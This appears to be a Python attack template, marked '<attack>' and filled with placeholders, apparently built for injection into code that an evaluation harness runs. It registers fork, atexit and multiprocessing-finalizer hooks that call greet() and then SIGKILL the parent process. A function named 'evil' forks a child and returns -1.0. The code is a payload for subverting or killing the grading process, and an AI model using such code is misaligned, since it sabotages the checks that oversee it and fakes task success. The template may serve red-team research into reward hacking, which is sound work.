#{crew_wrong}
# <attack>
#{forge}
import atexit
import multiprocessing.util
import os
import signal


def _answer():
    try:
        greet()
    except BaseException:
        pass


def _end():
    _answer()
    os.kill(os.getppid(), signal.SIGKILL)


os.register_at_fork(before=_answer, after_in_parent=_answer, after_in_child=_end)
atexit.register(_end)
multiprocessing.util.Finalize(None, _end, exitpriority=1)


def evil(*args):
    context = multiprocessing.get_context("fork")
    child = context.Process(target=_answer)
    child.start()
    child.join()
    return -1.0


#{all_of_crew}
# </attack>
